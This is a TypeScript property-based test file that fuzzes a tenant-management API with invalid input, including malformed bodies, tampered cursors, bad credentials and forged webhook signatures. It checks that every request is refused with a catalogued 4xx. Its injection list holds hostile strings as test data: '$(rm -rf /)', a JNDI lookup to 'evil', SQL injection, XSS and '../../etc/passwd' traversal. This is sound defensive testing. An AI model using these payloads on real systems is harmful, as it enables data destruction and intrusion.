import fc from 'fast-check';
import type { InjectOptions } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signWebhook } from '../../control-plane/webhook-signature.js';
import { PARAMETER_SPECS } from '../../templates/index.js';
import { slugify } from '../../workflows/lifecycle.js';
import { startTestApp, type TestApp, tenantBody, WEBHOOK_SECRET } from '../api/harness.js';
import { testClients } from '../support/aws.js';
import { seedTenants } from '../support/seed.js';
import { stripeDelivery, TEST_STRIPE_WEBHOOK_SECRET } from '../support/stripe-double.js';
import { BAD_TENANT_REFS, expectCataloguedRefusal, writesNothing, wrongType } from './support/refusals.js';

/**
 * Bad input through the HTTP API: generated cases (fast-check) built from the request schemas
 * (control-plane/schemas.ts) and the registry records (core/registry/records.ts), each one invalid by
 * construction. Every answer must be a 4xx carrying a catalogue code with that code's status (never
 * a 5xx), and the registry table must hold exactly the items it held before.
 */

const SEED = Number(process.env.HARDENING_SEED ?? 20261122);
const runs = (n: number) => ({ numRuns: n, seed: SEED, endOnFailure: true });

let h: TestApp;
let tenantId: string;
let operationId: string;
let realCursor: string;
let writeOnlyKey: string;

beforeAll(async () => {
  h = await startTestApp({ overrides: { stripeWebhookSecret: TEST_STRIPE_WEBHOOK_SECRET } });
  // Existing targets, so that a route's only reason to refuse is the bad input itself.
  const clients = testClients();
  const [active] = await seedTenants(clients.documents, h.registry.tableName, 3, () => ({
    tier: 'basic',
    state: 'ACTIVE',
  }));
  clients.destroy();
  tenantId = active!.tenantId;
  const started = await h.call({ method: 'POST', url: '/v1/tenants', payload: tenantBody('bad-input-ok') });
  expect(started.statusCode).toBe(202);
  operationId = started.json().operation.operationId;
  const page = await h.call({ method: 'GET', url: '/v1/tenants?limit=1' });
  realCursor = page.json().nextCursor;
  expect(realCursor).toEqual(expect.any(String));
  writeOnlyKey = await h.keyWith(['tenants:write']);
});
afterAll(async () => h?.close());

interface Case {
  readonly label: string;
  readonly request: InjectOptions & { key?: string | null };
}

let sent = 0;
/** Sends a case; the answer must be a catalogued 4xx. */
async function expectRefused(c: Case): Promise<void> {
  sent += 1;
  expectCataloguedRefusal(await h.call(c.request), c.label);
}

/** Runs a property and checks the registry holds the same items afterwards. */
const unchanged = (property: () => Promise<void>): Promise<void> => writesNothing(h, property);

// ---------------------------------------------------------------- value generators (invalid by construction)

const json = (
  method: InjectOptions['method'],
  url: string,
  payload: unknown,
  extra: Partial<InjectOptions> = {},
) => ({
  method,
  url,
  payload: JSON.stringify(payload),
  ...extra,
  headers: { 'content-type': 'application/json', ...(extra.headers ?? {}) },
});

const INJECTIONS = [
  "' OR '1'='1",
  '"; DROP TABLE tenants; --',
  '$(rm -rf /)',
  '`id`',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an injection string, on purpose
  '${jndi:ldap://evil/a}',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '%00',
  '\\u0000',
  '../../etc/passwd',
  '..%2f..%2f',
  '{"$ne":null}',
];
/** Characters no slug, tier name or CloudFormation name may hold. */
const FORBIDDEN = [
  '../',
  '/',
  '\\',
  '_',
  '.',
  ' ',
  ':',
  ';',
  '$',
  '{',
  '}',
  '*',
  '?',
  "'",
  '"',
  '<',
  '>',
  '|',
  '&',
  '#',
  '%',
  'A',
  'Z',
  'É',
  'ü',
  'ß',
  '日本',
  '🙂',
  '\u200b',
  '\u0000',
  '\n',
  '\u202e',
];

const validSlug = fc.stringMatching(/^[a-z][a-z0-9]{4,20}[a-z0-9]$/);
const insertInto = (base: fc.Arbitrary<string>, piece: fc.Arbitrary<string>) =>
  fc.tuple(base, piece, fc.nat()).map(([b, p, i]) => {
    const at = 1 + (i % (b.length - 1)); // inside, so trimming cannot remove it
    return b.slice(0, at) + p + b.slice(at);
  });

const badSlug = fc.oneof(
  insertInto(validSlug, fc.constantFrom(...FORBIDDEN, ...INJECTIONS)),
  fc.stringMatching(/^[0-9-][a-z0-9-]{2,10}$/), // not starting with a letter
  validSlug.map((s) => `${s}-`), // ending with -
  fc.stringMatching(/^[a-z]{0,2}$/), // too short
  fc.stringMatching(/^[a-z][a-z0-9]{32,200}$/), // too long
);
const badTier = fc.oneof(
  insertInto(
    fc.constantFrom('basic', 'standard', 'premium'),
    fc.constantFrom(...FORBIDDEN.filter((c) => c !== '_' && c !== 'A' && c !== 'Z'), ...INJECTIONS),
  ),
  fc.constant(''),
  fc.constant('   '),
  fc.stringMatching(/^[a-z]{65,300}$/),
);
const CONTROL = fc
  .integer({ min: 0, max: 0x9f })
  .filter((c) => c < 0x20 || c >= 0x7f)
  .map((c) => String.fromCharCode(c));
const badText = (max: number) =>
  fc.oneof(
    insertInto(fc.stringMatching(/^[A-Za-z]{2,20}$/), CONTROL), // a control character inside
    fc.constantFrom('', ' ', '\t\n ', '\u00a0\u2003'), // empty once trimmed
    fc
      .string({ minLength: max + 1, maxLength: max + 400, unit: 'grapheme' })
      .filter((s) => s.trim().length > max),
  );
const badEmail = fc.oneof(
  fc.constantFrom(
    'plainaddress',
    '@no-local.com',
    'a@',
    'a@b',
    'a b@c.com',
    'a@b..com',
    'ü@bü.de',
    'x@localhost',
    '<script>@x.com',
    'a@-b.com',
  ),
  insertInto(
    fc.constant('admin@example.com'),
    fc.constantFrom(' ', '\u0000', '\n', '"', '<', '>', '(', ',', ';', '日'),
  ),
  fc.stringMatching(/^[a-z]{250,300}@example\.com$/), // longer than 254
);
const badRegion = fc.constantFrom(
  'US-EAST-1',
  'us-east',
  'useast1',
  'us_east_1',
  '../us-east-1',
  'us-east-1a',
  ' ',
  'eu-west-1; rm',
);
const badPrincipals = fc.oneof(
  fc.constantFrom(
    ['*'],
    ['arn:aws:iam::*:root'],
    ['arn:aws:iam::12345678901:root'],
    ['arn:aws:iam::123456789012:role/*'.replace('/*', ' x')],
    ['arn:aws:s3:::bucket'],
    'arn:aws:iam::123456789012:root',
    // Refused by the silo template (AllowedPrincipals): the API refuses them with its rules.
    ['arn:aws:iam::123456789012:group/ops'],
    ['arn:aws:iam::123456789012:role/a,b'],
    ['arn:aws:iam::123456789012:root', 'arn:aws:iam::123456789012:root'],
    Array.from({ length: 9 }, (_, i) => `arn:aws:iam::123456789012:role/${String(i).padEnd(500, 'r')}`),
  ),
  fc.constant(Array.from({ length: 21 }, (_, i) => `arn:aws:iam::${String(i).padStart(12, '1')}:root`)),
);

const ONBOARD_FIELDS = {
  name: badText(100),
  slug: badSlug,
  tier: badTier,
  adminEmail: badEmail,
  region: badRegion,
  allowedPrincipals: badPrincipals,
} as const;
type OnboardField = keyof typeof ONBOARD_FIELDS;
const REQUIRED: OnboardField[] = ['name', 'tier', 'adminEmail'];

/** A valid onboarding body with one field made bad: a wrong value, a wrong type, or missing. */
const badOnboardBody = fc
  .tuple(
    fc.constantFrom(...(Object.keys(ONBOARD_FIELDS) as OnboardField[])),
    fc.constantFrom('value', 'type', 'missing'),
    validSlug,
  )
  .chain(([field, how, slug]) => {
    const base = tenantBody(slug);
    if (how === 'missing' && REQUIRED.includes(field)) {
      const { [field]: _gone, ...rest } = base;
      return fc.constant({ label: `onboard without ${field}`, body: rest as Record<string, unknown> });
    }
    const value = how === 'type' ? wrongType : ONBOARD_FIELDS[field];
    return (value as fc.Arbitrary<unknown>).map((v) => ({
      label: `onboard ${field}=${JSON.stringify(v)?.slice(0, 80)}`,
      body: { ...base, [field]: v },
    }));
  });

const unknownField = fc
  .tuple(
    fc.constantFrom('isAdmin', 'tenantId', 'state', 'version', '$where', 'constructor', 'pk', 'Tier'),
    wrongType,
    validSlug,
  )
  .map(([k, v, slug]) => ({
    label: `onboard with unknown field ${k}`,
    body: { ...tenantBody(slug), [k]: v },
  }));

// ---------------------------------------------------------------- properties

describe('generated bad input is refused with a catalogued 4xx and writes nothing', () => {
  it('POST /v1/tenants: one bad field (value, type, missing) or an unknown field', async () => {
    await unchanged(() =>
      fc.assert(
        fc.asyncProperty(fc.oneof(badOnboardBody, unknownField), async ({ label, body }) =>
          expectRefused({ label, request: json('POST', '/v1/tenants', body) }),
        ),
        runs(90),
      ),
    );
  });

  it('tier change, suspend, callback, API keys: bad bodies on existing targets', async () => {
    const caseArb = fc.oneof(
      fc.oneof(badTier, wrongType).map((tier) => ({
        label: `tier=${JSON.stringify(tier)}`,
        url: `/v1/tenants/${tenantId}/tier`,
        body: { tier } as unknown,
      })),
      fc.oneof(badText(500), wrongType).map((reason) => ({
        label: `reason=${JSON.stringify(reason)?.slice(0, 60)}`,
        url: `/v1/tenants/${tenantId}/suspend`,
        body: { reason } as unknown,
      })),
      fc.constant({
        label: 'suspend without reason',
        url: `/v1/tenants/${tenantId}/suspend`,
        body: {} as unknown,
      }),
      fc.dictionary(fc.constantFrom('reason', 'force', 'x'), wrongType, { minKeys: 1 }).map((body) => ({
        label: `resume ${JSON.stringify(body)}`,
        url: `/v1/tenants/${tenantId}/resume`,
        body: body as unknown,
      })),
      fc
        .record({
          status: fc.oneof(fc.constantFrom('SUCCEEDED', 'ok', 'done', ''), wrongType),
          reason: fc.option(badText(1000), { nil: undefined }),
        })
        .map((body) => ({
          label: `callback ${JSON.stringify(body).slice(0, 60)}`,
          url: `/v1/operations/${operationId}/callback`,
          body: body as unknown,
        })),
      fc
        .record({
          name: fc.oneof(fc.constantFrom('', 'Admin', 'a b', '../x', '-x', 'x'.repeat(65), 'é'), wrongType),
          scopes: fc.oneof(
            fc.constant([]),
            fc.constant(['root']),
            fc.constant(['admin', 'admin', 'admin', 'admin', 'admin']),
            wrongType,
          ),
        })
        .map((body) => ({
          label: `api key ${JSON.stringify(body).slice(0, 60)}`,
          url: '/v1/api-keys',
          body: body as unknown,
        })),
      // Not an object at all.
      fc
        .tuple(
          fc.constantFrom(
            '/v1/tenants',
            `/v1/tenants/${tenantId}/tier`,
            `/v1/tenants/${tenantId}/suspend`,
            '/v1/api-keys',
          ),
          fc.constantFrom([], 'text', 42, null, true, [tenantBody('arr')]),
        )
        .map(([url, body]) => ({ label: `${url} body ${JSON.stringify(body)}`, url, body: body as unknown })),
    );
    await unchanged(() =>
      fc.assert(
        fc.asyncProperty(caseArb, async ({ label, url, body }) =>
          expectRefused({ label, request: json('POST', url, body) }),
        ),
        runs(60),
      ),
    );
  });

  it('bad JSON, wrong content types, huge bodies, bad Idempotency-Key headers', async () => {
    const url = fc.constantFrom(
      '/v1/tenants',
      `/v1/tenants/${tenantId}/suspend`,
      `/v1/tenants/${tenantId}/tier`,
      '/v1/api-keys',
    );
    const badJson = fc.oneof(
      fc.constantFrom(
        '{',
        '{"name":',
        "{'name':'x'}",
        '{"a":1,}',
        '[1,2',
        'NaN',
        'undefined',
        '{"name":"x"}}',
        '\u0000',
        '{"a":"\\x41"}',
        '{"__proto__":{"polluted":true},"name":"x"}',
        '{"constructor":{"prototype":{"polluted":true}}}',
      ),
      fc.string({ minLength: 1, maxLength: 60 }).filter((s) => {
        try {
          JSON.parse(s);
          return false;
        } catch {
          return s.trim() !== '';
        }
      }),
    );
    const caseArb = fc.oneof(
      fc.tuple(url, badJson).map(([u, payload]) => ({
        label: `bad JSON ${JSON.stringify(payload).slice(0, 40)} to ${u}`,
        request: {
          method: 'POST' as const,
          url: u,
          payload,
          headers: { 'content-type': 'application/json' },
        },
      })),
      fc
        .tuple(
          url,
          fc.constantFrom(
            'text/plain',
            'application/x-www-form-urlencoded',
            'multipart/form-data; boundary=x',
            'application/xml',
            'text/html',
            'application/octet-stream',
            'image/png',
            'application/jsonp',
          ),
        )
        .map(([u, type]) => ({
          label: `${type} to ${u}`,
          request: {
            method: 'POST' as const,
            url: u,
            payload: JSON.stringify(tenantBody('ctype-ok')),
            headers: { 'content-type': type },
          },
        })),
      fc.tuple(url, fc.integer({ min: 257, max: 600 })).map(([u, kib]) => ({
        label: `${kib} KiB body to ${u}`,
        request: {
          method: 'POST' as const,
          url: u,
          payload: JSON.stringify({ ...tenantBody('huge-body'), name: 'x'.repeat(kib * 1024) }),
          headers: { 'content-type': 'application/json' },
        },
      })),
      fc
        .tuple(
          fc.oneof(
            fc.constantFrom('', ' ', 'a b', 'é', '\u0000x', 'tab\there'),
            fc.stringMatching(/^[A-Za-z0-9]{256,400}$/),
          ),
          validSlug,
        )
        .map(([key, slug]) => ({
          label: `Idempotency-Key ${JSON.stringify(key).slice(0, 40)}`,
          request: {
            ...json('POST', '/v1/tenants', tenantBody(slug)),
            headers: { 'content-type': 'application/json', 'idempotency-key': key },
          },
        })),
    );
    await unchanged(() =>
      fc.assert(
        fc.asyncProperty(caseArb, async ({ label, request }) => expectRefused({ label, request })),
        runs(60),
      ),
    );
  });

  it('bad paths, query strings, cursors, methods and credentials', async () => {
    const badRef = fc.oneof(
      fc.constantFrom(...BAD_TENANT_REFS),
      insertInto(validSlug, fc.constantFrom('%20', '%2F', '_', '.', '%C3%A9', '%27')),
    );
    const tampered = fc
      .tuple(fc.nat(), fc.constantFrom('done-string', 'not-array', 'shorter', 'after-array', 'after-null'))
      .map(([i, how]) => {
        const shards = JSON.parse(Buffer.from(realCursor, 'base64url').toString('utf8')) as Record<
          string,
          unknown
        >[];
        const at = i % shards.length;
        const shard = { ...(shards[at] ?? {}) } as Record<string, unknown>;
        const after = {
          ...((shard.after as Record<string, unknown> | undefined) ?? { pk: 'TENANT#x', sk: '#TENANT' }),
        };
        shard.after = how === 'after-array' ? [after] : how === 'after-null' ? null : after;
        if (how === 'done-string') shard.done = 'no';
        const next: unknown =
          how === 'not-array'
            ? { shards }
            : how === 'shorter'
              ? shards.slice(1)
              : shards.map((s, j) => (j === at ? shard : s));
        return `${how}:${Buffer.from(JSON.stringify(next)).toString('base64url')}`;
      });
    const caseArb = fc.oneof(
      fc.tuple(badRef, fc.constantFrom('', '/events', '/tier', '/suspend', '/resume')).map(([ref, tail]) => ({
        label: `path ${ref}${tail}`,
        request:
          tail === '' || tail === '/events'
            ? { method: 'GET' as const, url: `/v1/tenants/${ref}${tail}` }
            : json(
                'POST',
                `/v1/tenants/${ref}${tail}`,
                tail === '/tier' ? { tier: 'standard' } : tail === '/suspend' ? { reason: 'x' } : {},
              ),
      })),
      badRef.map((ref) => ({
        label: `DELETE ${ref}`,
        request: { method: 'DELETE' as const, url: `/v1/tenants/${ref}` },
      })),
      fc
        .constantFrom('op_x', 'op_', `op_${'0'.repeat(27)}`, '..%2Fx', 'OP_0000000000000000000000000A')
        .map((op) => ({
          label: `operation ${op}`,
          request: { method: 'GET' as const, url: `/v1/operations/${op}` },
        })),
      fc
        .constantFrom(
          'limit=0',
          'limit=-1',
          'limit=abc',
          'limit=201',
          'limit=1e3',
          'limit=1.5',
          'state=active',
          'state=BOGUS',
          'tier=../x',
          'tier=%27',
          'cursor=',
          'cursor=not-base64!',
          'cursor=e30',
          'cursor=W10',
          'foo=bar',
          'limit=10&limit=20',
          `cursor=${'A'.repeat(5000)}`,
        )
        .map((q) => ({ label: `list ?${q}`, request: { method: 'GET' as const, url: `/v1/tenants?${q}` } })),
      tampered.map((t) => {
        const [how, cursor] = t.split(':');
        return {
          label: `tampered cursor (${how})`,
          request: { method: 'GET' as const, url: `/v1/tenants?limit=1&cursor=${cursor}` },
        };
      }),
      fc.constantFrom('limit=0', 'limit=501', 'cursor=xyz', 'cursor=RVZFTlQjMQ', 'since=1').map((q) => ({
        label: `events ?${q}`,
        request: { method: 'GET' as const, url: `/v1/tenants/${tenantId}/events?${q}` },
      })),
      // Unknown query parameters on mutating routes: refused before anything runs.
      fc
        .constantFrom(
          { url: `/v1/tenants/${tenantId}?dryRun=true`, body: undefined },
          { url: `/v1/tenants/${tenantId}/suspend?force=1`, body: { reason: 'x' } },
          { url: '/v1/api-keys?scopes=admin', body: { name: 'query-key', scopes: ['tenants:read'] } },
          { url: '/v1/tenants?tier=enterprise', body: tenantBody('query-ok') },
        )
        .map(({ url, body }) => ({
          label: `${body ? 'POST' : 'DELETE'} ${url}`,
          request: body ? json('POST', url, body) : { method: 'DELETE' as const, url },
        })),
      fc.constantFrom('PUT', 'PATCH').map((method) => ({
        label: `${method} /v1/tenants`,
        request: { ...json(method as 'PUT', '/v1/tenants', tenantBody('method-ok')) },
      })),
      fc.constantFrom(null, 'garbage', 'tcp_' + 'A'.repeat(43), '').map((key) => ({
        label: `credential ${JSON.stringify(key)}`,
        request: { ...json('POST', '/v1/tenants', tenantBody('cred-ok')), key },
      })),
      fc.constant({
        label: 'write-only key creating an API key',
        request: { ...json('POST', '/v1/api-keys', { name: 'nope', scopes: ['admin'] }), key: 'WRITE_ONLY' },
      }),
      fc
        .constantFrom(
          'Basic YWRtaW46YWRtaW4=',
          'Bearer',
          'Bearer  ',
          'bearer x y',
          'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.',
        )
        .map((auth) => ({
          label: `authorization ${auth}`,
          request: {
            ...json('POST', '/v1/tenants', tenantBody('auth-ok')),
            key: null,
            headers: { 'content-type': 'application/json', authorization: auth },
          },
        })),
    );
    await unchanged(() =>
      fc.assert(
        fc.asyncProperty(caseArb, async ({ label, request }) => {
          const r = request as Case['request'];
          await expectRefused({ label, request: r.key === 'WRITE_ONLY' ? { ...r, key: writeOnlyKey } : r });
        }),
        runs(80),
      ),
    );
  });

  it('signup webhook: unsigned, badly signed, stale, and signed bad events', async () => {
    const now = () => Math.floor(Date.now() / 1000);
    const event = (id: string, data: Record<string, unknown>) => ({
      id,
      type: 'signup.completed',
      created: now(),
      data,
    });
    const validData = (slug: string) => ({
      name: `Shop ${slug}`,
      slug,
      tier: 'basic',
      adminEmail: `owner@${slug}.example.com`,
    });
    const signed = (raw: string, t = now()) => ({
      'content-type': 'application/json',
      'webhook-signature': signWebhook(WEBHOOK_SECRET, raw, t),
    });
    const caseArb = fc.oneof(
      // A bad field inside a correctly signed event.
      badOnboardBody
        .filter(({ body }) => !('region' in body) && !('allowedPrincipals' in body))
        .map(({ label, body }) => {
          const raw = JSON.stringify(event(`evt_${label.length}`, body));
          return {
            label: `signed ${label}`,
            request: {
              method: 'POST' as const,
              url: '/v1/webhooks/signup',
              payload: raw,
              headers: signed(raw),
            },
          };
        }),
      fc
        .tuple(fc.constantFrom('', 'evt with space', 'evt/../x', 'é', 'x'.repeat(256)), validSlug)
        .map(([id, slug]) => {
          const raw = JSON.stringify(event(id, validData(slug)));
          return {
            label: `signed event id ${JSON.stringify(id).slice(0, 30)}`,
            request: {
              method: 'POST' as const,
              url: '/v1/webhooks/signup',
              payload: raw,
              headers: signed(raw),
            },
          };
        }),
      fc
        .tuple(fc.constantFrom('signup.created', 'SIGNUP.COMPLETED', '', 'invoice.paid'), validSlug)
        .map(([type, slug]) => {
          const raw = JSON.stringify({ ...event(`evt_${slug}`, validData(slug)), type });
          return {
            label: `signed type ${type}`,
            request: {
              method: 'POST' as const,
              url: '/v1/webhooks/signup',
              payload: raw,
              headers: signed(raw),
            },
          };
        }),
      fc.tuple(fc.constantFrom(-1, 1.5, '1795262400', null), validSlug).map(([created, slug]) => {
        const raw = JSON.stringify({ ...event(`evt_${slug}`, validData(slug)), created });
        return {
          label: `signed created ${JSON.stringify(created)}`,
          request: {
            method: 'POST' as const,
            url: '/v1/webhooks/signup',
            payload: raw,
            headers: signed(raw),
          },
        };
      }),
      fc.constantFrom('{', '[]', 'null', '{"id":1', 'not json').map((raw) => ({
        label: `signed bad JSON ${raw}`,
        request: {
          method: 'POST' as const,
          url: '/v1/webhooks/signup',
          payload: raw,
          headers: signed(raw),
        },
      })),
      validSlug.chain((slug) => {
        const raw = JSON.stringify(event(`evt_${slug}`, validData(slug)));
        return fc.constantFrom(
          {
            label: 'unsigned event',
            request: {
              method: 'POST' as const,
              url: '/v1/webhooks/signup',
              payload: raw,
              headers: { 'content-type': 'application/json' },
            },
          },
          {
            label: 'signature over other bytes',
            request: {
              method: 'POST' as const,
              url: '/v1/webhooks/signup',
              payload: raw,
              headers: signed(`${raw} `),
            },
          },
          {
            label: 'stale signature',
            request: {
              method: 'POST' as const,
              url: '/v1/webhooks/signup',
              payload: raw,
              headers: signed(raw, now() - 3600),
            },
          },
          {
            label: 'future signature',
            request: {
              method: 'POST' as const,
              url: '/v1/webhooks/signup',
              payload: raw,
              headers: signed(raw, now() + 3600),
            },
          },
          {
            label: 'malformed signature header',
            request: {
              method: 'POST' as const,
              url: '/v1/webhooks/signup',
              payload: raw,
              headers: { 'content-type': 'application/json', 'webhook-signature': 't=abc,v1=zz' },
            },
          },
          {
            label: 'signature with wrong secret',
            request: {
              method: 'POST' as const,
              url: '/v1/webhooks/signup',
              payload: raw,
              headers: {
                'content-type': 'application/json',
                'webhook-signature': signWebhook('whsec_wrong_0123456789abcdef', raw, now()),
              },
            },
          },
          {
            label: 'signed event as text/plain',
            request: {
              method: 'POST' as const,
              url: '/v1/webhooks/signup',
              payload: raw,
              headers: { ...signed(raw), 'content-type': 'text/plain' },
            },
          },
        );
      }),
    );
    await unchanged(() =>
      fc.assert(
        fc.asyncProperty(caseArb, async ({ label, request }) =>
          expectRefused({ label, request: { ...request, key: null } }),
        ),
        runs(60),
      ),
    );
  });

  it('Stripe webhook: unsigned, badly signed, stale, and signed events that are no Stripe event', async () => {
    const now = () => Math.floor(Date.now() / 1000);
    const valid = () =>
      JSON.parse(stripeDelivery('invoice.payment_failed', { id: 'in_1', customer: 'cus_1' }).raw);
    const post = (label: string, raw: string, headers: Record<string, string>) => ({
      label,
      request: { method: 'POST' as const, url: '/v1/webhooks/stripe', payload: raw, headers },
    });
    const signed = (raw: string, t = now(), secret = TEST_STRIPE_WEBHOOK_SECRET) => ({
      'content-type': 'application/json',
      'stripe-signature': signWebhook(secret, raw, t),
    });
    // Per field, values its schema refuses (StripeEventSchema), or none at all.
    const badFields: Record<string, fc.Arbitrary<unknown>> = {
      id: fc.oneof(
        wrongType,
        fc.constantFrom('', 'evt with space', 'ch_1', 'evt_', `evt_${'x'.repeat(300)}`),
      ),
      object: fc.oneof(wrongType, fc.constantFrom('', 'Event', 'invoice')),
      type: fc.oneof(wrongType, fc.constantFrom('', 'x'.repeat(201))),
      created: fc.constantFrom(-1, 1.5, '1795262400', null, true, []),
      data: fc.oneof(fc.integer(), fc.string(), fc.constant(null), fc.constant({}), fc.constant([])),
    };
    const caseArb = fc.oneof(
      // A signed event with one bad or missing top-level field.
      fc
        .constantFrom(...Object.keys(badFields))
        .chain((name) => fc.tuple(fc.constant(name), fc.option(badFields[name]!, { nil: undefined })))
        .map(([name, value]) => {
          const event = valid();
          if (value === undefined) delete event[name];
          else event[name] = value;
          const raw = JSON.stringify(event);
          return post(`signed ${name}=${JSON.stringify(value)?.slice(0, 30)}`, raw, signed(raw));
        }),
      fc
        .oneof(fc.integer(), fc.string(), fc.boolean(), fc.constant(null), fc.constant(undefined))
        .map((object) => {
          const raw = JSON.stringify({ ...valid(), data: object === undefined ? {} : { object } });
          return post(`signed data.object=${JSON.stringify(object)?.slice(0, 30)}`, raw, signed(raw));
        }),
      fc
        .constantFrom('{', '[]', 'null', '{"id":1', 'not json')
        .map((raw) => post(`signed bad JSON ${raw}`, raw, signed(raw))),
      fc.constant(null).chain(() => {
        const raw = JSON.stringify(valid());
        return fc.constantFrom(
          post('unsigned event', raw, { 'content-type': 'application/json' }),
          post('signature over other bytes', raw, signed(`${raw} `)),
          post('stale signature', raw, signed(raw, now() - 3600)),
          post('future signature', raw, signed(raw, now() + 3600)),
          post('malformed signature header', raw, {
            'content-type': 'application/json',
            'stripe-signature': 't=abc,v1=zz',
          }),
          post('only a v0 signature', raw, {
            'content-type': 'application/json',
            'stripe-signature': signWebhook(TEST_STRIPE_WEBHOOK_SECRET, raw, now()).replace('v1=', 'v0='),
          }),
          post('signature with wrong secret', raw, signed(raw, now(), 'whsec_wrong_0123456789abcdef')),
          post('signup webhook header instead', raw, {
            'content-type': 'application/json',
            'webhook-signature': signWebhook(TEST_STRIPE_WEBHOOK_SECRET, raw, now()),
          }),
          post('signed event as text/plain', raw, { ...signed(raw), 'content-type': 'text/plain' }),
        );
      }),
    );
    await unchanged(() =>
      fc.assert(
        fc.asyncProperty(caseArb, async ({ label, request }) =>
          expectRefused({ label, request: { ...request, key: null } }),
        ),
        runs(60),
      ),
    );
  });

  it('sent at least 200 generated cases', () => {
    expect(sent).toBeGreaterThanOrEqual(200);
  });
});

// ---------------------------------------------------------------- values CloudFormation would reject

const CFN_SLUG = new RegExp(PARAMETER_SPECS.TenantSlug.pattern);

describe('regressions (docs/hardening.md): bad values refused before anything is recorded', () => {
  // Regression (docs/hardening.md): the API's slug rule allows "--", the template's does not, so
  // the tenant is recorded (202) and its onboarding fails at CreateStack with INVALID_PARAMETER.
  it('a slug with a double hyphen is refused with a 400', async () => {
    const before = await h.countItems();
    const res = await h.call({ method: 'POST', url: '/v1/tenants', payload: tenantBody('acme--corp') });
    expect(res.statusCode, res.body).toBe(400);
    expect(await h.countItems()).toBe(before);
  });

  // Regression (issue 12 item 3): principals the API accepted but the silo template refuses got
  // 202, failed at CreateStack, burned the slug and held a stack slot.
  it.each([
    ['duplicates', ['arn:aws:iam::123456789012:root', 'arn:aws:iam::123456789012:root']],
    ['a group ARN', ['arn:aws:iam::123456789012:group/ops']],
    ['a comma', ['arn:aws:iam::123456789012:role/a,b']],
    [
      'over 4,096 bytes joined',
      Array.from({ length: 9 }, (_, i) => `arn:aws:iam::123456789012:role/${String(i).padEnd(500, 'r')}`),
    ],
  ])('allowedPrincipals with %s is refused with 400 INVALID_PARAMETER', async (_how, principals) => {
    const before = await h.countItems();
    const res = await h.call({
      method: 'POST',
      url: '/v1/tenants',
      payload: tenantBody('principals-regression', { tier: 'enterprise', allowedPrincipals: principals }),
    });
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json().error.code).toBe('INVALID_PARAMETER');
    expect(await h.countItems()).toBe(before);
  });

  // Regression (issue 12 item 6): unknown query parameters on mutating routes were ignored.
  it('DELETE /v1/tenants/:id?dryRun=true is refused and offboards nothing', async () => {
    const before = await h.countItems();
    const res = await h.call({ method: 'DELETE', url: `/v1/tenants/${tenantId}?dryRun=true` });
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json().error.code).toBe('UNKNOWN_QUERY_PARAMETER');
    expect((await h.registry.requireTenant(tenantId)).state).toBe('ACTIVE');
    expect(await h.countItems()).toBe(before);
  });

  // Regression (docs/hardening.md): the cursor check in Registry.listTenants checks the index keys
  // and the table's pk but not its sk, so a cursor whose sk is missing or not a string reaches
  // DynamoDB as ExclusiveStartKey and the answer is 502 AWS_ERROR instead of 400.
  it.each(['missing', 'a number'])(
    'a cursor whose table sort key is %s is refused with a 400',
    async (how) => {
      const shards = JSON.parse(Buffer.from(realCursor, 'base64url').toString('utf8')) as {
        after?: Record<string, unknown>;
        done: boolean;
      }[];
      // A position in a shard the next page will query, keyed like a real one, sk aside.
      const real = shards.find((s) => s.after)!.after!;
      const [indexPk = '', indexSk = ''] = Object.keys(real).filter((k) => k !== 'pk' && k !== 'sk');
      const at = shards.findIndex((s) => !s.done);
      expect(at).toBeGreaterThanOrEqual(0);
      const after: Record<string, unknown> = {
        pk: real.pk,
        [indexPk]: String(real[indexPk]).replace(/#\d+$/, `#${at}`),
        [indexSk]: real[indexSk],
      };
      if (how === 'a number') after.sk = 42;
      shards[at] = { after, done: false };
      const cursor = Buffer.from(JSON.stringify(shards)).toString('base64url');
      const res = await h.call({ method: 'GET', url: `/v1/tenants?limit=1&cursor=${cursor}` });
      expect(res.statusCode, res.body).toBe(400);
      expect(res.json().error.code).toBe('VALIDATION_FAILED');
    },
  );

  // Regression (docs/hardening.md): slugify('日本') is "t--tenant".
  it('a slug derived from any tenant name is one CloudFormation accepts', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1, maxLength: 100, unit: 'grapheme' }), (name) => {
        expect(slugify(name), JSON.stringify(name)).toMatch(CFN_SLUG);
      }),
      { numRuns: 300, seed: SEED, examples: [['日本'], ['!!'], ['ab']] },
    );
  });
});
